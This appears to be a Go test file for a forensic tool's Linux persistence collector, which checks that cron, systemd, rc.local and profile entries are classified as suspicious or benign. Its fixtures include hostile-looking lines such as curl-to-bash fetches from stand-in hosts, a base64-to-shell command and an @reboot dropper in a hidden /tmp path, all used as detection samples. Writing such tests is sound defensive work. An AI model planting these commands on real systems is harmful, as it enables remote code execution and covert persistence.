package linux

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"coldsnap/audit"
	"coldsnap/collectors"
)

func writePersistenceFixture(t *testing.T) string {
	t.Helper()
	root := t.TempDir()

	mkdir := func(parts ...string) string {
		p := filepath.Join(append([]string{root}, parts...)...)
		require.NoError(t, os.MkdirAll(p, 0o755))
		return p
	}
	write := func(path, content string) {
		require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
	}

	etc := mkdir("etc")
	write(filepath.Join(etc, "crontab"),
		"SHELL=/bin/sh\n"+
			"# m h dom mon dow user command\n"+
			"17 * * * * root cd / && run-parts /etc/cron.hourly\n"+
			"@reboot root /tmp/.cache/updater\n")

	cronD := mkdir("etc", "cron.d")
	write(filepath.Join(cronD, "backup"),
		"0 3 * * * backup /usr/local/bin/backup.sh\n")

	units := mkdir("etc", "systemd", "system")
	write(filepath.Join(units, "sshd.service"),
		"[Unit]\nDescription=OpenSSH\n[Service]\nExecStart=/usr/sbin/sshd -D\n")
	write(filepath.Join(units, "sysupdate.service"),
		"[Service]\nExecStart=/bin/sh -c \"curl -s http://x.example/p | bash\"\n")

	write(filepath.Join(etc, "rc.local"),
		"#!/bin/sh\n/opt/agent/start\nexit 0\n")

	profileD := mkdir("etc", "profile.d")
	write(filepath.Join(profileD, "vte.sh"), "true\n")

	return root
}

func TestPersistenceCollect(t *testing.T) {
	root := writePersistenceFixture(t)
	c := &PersistenceCollector{Root: root}
	rc := collectors.RunContext{Scope: collectors.Scope{SkipHashes: true}, Log: audit.NewLog()}

	res, err := c.Collect(context.Background(), rc)
	require.NoError(t, err)
	assert.Equal(t, collectors.StatusComplete, res.Status)

	byName := make(map[string]collectors.PersistenceEntry)
	keys := make(map[string]bool)
	for _, e := range res.Persistence {
		require.False(t, keys[e.NaturalKey()], "duplicate key %s", e.NaturalKey())
		keys[e.NaturalKey()] = true
		byName[e.Mechanism+"/"+e.Name] = e
	}

	hourly, ok := byName["cron/line 3"]
	require.True(t, ok, "crontab line 3 missing: %v", byName)
	assert.Equal(t, "cd / && run-parts /etc/cron.hourly", hourly.Command)
	assert.False(t, hourly.IsSuspicious)

	dropper, ok := byName["cron/line 4"]
	require.True(t, ok)
	assert.Equal(t, "/tmp/.cache/updater", dropper.Command)
	assert.True(t, dropper.IsSuspicious)
	assert.Contains(t, dropper.SuspicionReasons, "references world-writable path /tmp")
	assert.Contains(t, dropper.SuspicionReasons, "hidden path component")

	sshd, ok := byName["systemd_unit/sshd.service"]
	require.True(t, ok)
	assert.Equal(t, "/usr/sbin/sshd -D", sshd.Command)
	assert.False(t, sshd.IsSuspicious)

	curler, ok := byName["systemd_unit/sysupdate.service"]
	require.True(t, ok)
	assert.True(t, curler.IsSuspicious)
	assert.Contains(t, curler.SuspicionReasons, "downloads and pipes to shell")

	rcl, ok := byName["rc_local/line 2"]
	require.True(t, ok)
	assert.Equal(t, "/opt/agent/start", rcl.Command)

	_, ok = byName["shell_profile/vte.sh"]
	assert.True(t, ok)
}

func TestPersistenceUnitHashing(t *testing.T) {
	root := writePersistenceFixture(t)
	c := &PersistenceCollector{Root: root}
	rc := collectors.RunContext{Scope: collectors.Scope{}, Log: audit.NewLog()}

	res, err := c.Collect(context.Background(), rc)
	require.NoError(t, err)
	for _, e := range res.Persistence {
		if e.Mechanism == "systemd_unit" || e.Mechanism == "shell_profile" {
			require.NotNil(t, e.SHA256, "%s should carry a file hash", e.Name)
			assert.Len(t, *e.SHA256, 64)
		}
	}
}

func TestPersistenceUnavailable(t *testing.T) {
	c := &PersistenceCollector{Root: t.TempDir()}
	rc := collectors.RunContext{Scope: collectors.Scope{}, Log: audit.NewLog()}
	_, err := c.Collect(context.Background(), rc)
	require.Error(t, err)
}

func TestClassifyDeterministic(t *testing.T) {
	cases := []struct {
		command string
		source  string
	}{
		{"/tmp/.hidden/run.sh", "/etc/crontab"},
		{"curl http://e.example/a | sh", "/etc/cron.d/x"},
		{"echo aGk= | base64 -d | sh", "/etc/rc.local"},
		{"/usr/bin/legit", "/etc/systemd/system"},
	}
	for _, tc := range cases {
		sus1, reasons1 := Classify(tc.command, tc.source)
		for i := 0; i < 5; i++ {
			sus2, reasons2 := Classify(tc.command, tc.source)
			assert.Equal(t, sus1, sus2)
			assert.Equal(t, reasons1, reasons2)
		}
	}

	sus, _ := Classify("/usr/bin/legit", "/etc/systemd/system")
	assert.False(t, sus)
}

func TestCronCommand(t *testing.T) {
	tests := []struct {
		line   string
		want   string
		wantOK bool
	}{
		{"17 * * * * root run-parts /etc/cron.hourly", "run-parts /etc/cron.hourly", true},
		{"@reboot root /opt/x", "/opt/x", true},
		{"SHELL=/bin/sh", "", false},
		{"@reboot root", "", false},
	}
	for _, tt := range tests {
		got, ok := cronCommand(tt.line)
		assert.Equal(t, tt.wantOK, ok, tt.line)
		assert.Equal(t, tt.want, got, tt.line)
	}
}
